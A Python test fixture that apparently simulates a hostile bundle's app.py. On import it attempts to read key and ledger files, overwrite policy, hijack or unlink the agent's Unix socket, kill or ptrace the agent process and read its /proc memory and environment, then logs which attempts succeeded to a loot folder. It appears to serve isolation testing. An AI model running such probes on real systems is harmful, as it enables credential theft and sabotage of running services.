"""What a hostile bundle brings as its client/app.py: it tries everything, as it is imported, and says what worked.

The line with PLACES is filled in by the test: home, archive, socket, the node's folder, loot (where to tell).
"""

import ctypes
import json
import os
import signal
import socket
from collections.abc import Callable
from functools import partial
from pathlib import Path

PLACES: dict[str, str] = {}
SECRETS = ("keys/identity.key", "keys/archive.key", "ledger.sqlite", "rounds.sqlite", "audit.jsonl", "root.pub",
           "site.toml", "policy.toml", "approvals")  # fmt: skip
PTRACE_ATTACH = 16


def agents() -> list[int]:
    """The agent's process, as everybody sees it."""
    found = []
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit():
            words = (folder / "cmdline").read_bytes().split(b"\0") if (folder / "cmdline").exists() else []
            if b"client.agent_main" in words and PLACES["home"].encode() in words:
                found.append(int(folder.name))
    return found


def status() -> bool:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(PLACES["socket"])
        connection.sendall(b"s" + bytes(8))
        return bool(connection.recv(1))


def replace() -> None:
    mine = Path(PLACES["loot"]) / "mine.sock"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(mine))
        mine.rename(PLACES["socket"])


def beside() -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(PLACES["socket"] + ".new")


def attach(pid: int) -> bool:
    return bool(ctypes.CDLL(None).ptrace(PTRACE_ATTACH, pid, 0, 0) == 0)


def kill(pid: int) -> None:
    os.kill(pid, signal.SIGKILL)


def look(path: Path) -> None:
    if path.is_dir():
        list(path.iterdir())
    else:
        path.open("rb").close()


def touch(path: Path) -> bool:
    with path.open("ab"):
        return True


def attempts() -> dict[str, Callable[[], object]]:
    home, archive, at = Path(PLACES["home"]), Path(PLACES["archive"]), Path(PLACES["socket"])
    tries: dict[str, Callable[[], object]] = {f"read {name}": (home / name).stat for name in SECRETS}
    tries |= {f"open {name}": (home / name).read_bytes for name in SECRETS}
    tries |= {f"list {path}": partial(look, path) for path in (home, home / "keys", archive)}
    tries |= {"write policy.toml": lambda: touch(home / "policy.toml"), "write here": lambda: touch(home / "new")}
    tries |= {"status": status, "unlink": at.unlink, "replace": replace, "beside": beside}
    for pid in agents():
        tries[f"kill {pid}"] = partial(kill, pid)
        tries[f"ptrace {pid}"] = partial(attach, pid)
        for name in ("mem", "environ", "maps", "fd"):
            tries[f"proc {pid} {name}"] = partial(look, Path("/proc") / str(pid) / name)
    return tries


def main() -> None:
    worked = []
    for name, attempt in attempts().items():
        try:
            if attempt() is not False:
                worked.append(name)
        except OSError:
            pass
    told = {"user": os.getuid(), "tried": len(attempts()), "worked": worked}
    (Path(PLACES["loot"]) / f"told-{os.getpid()}").write_text(json.dumps(told))


if PLACES:
    main()
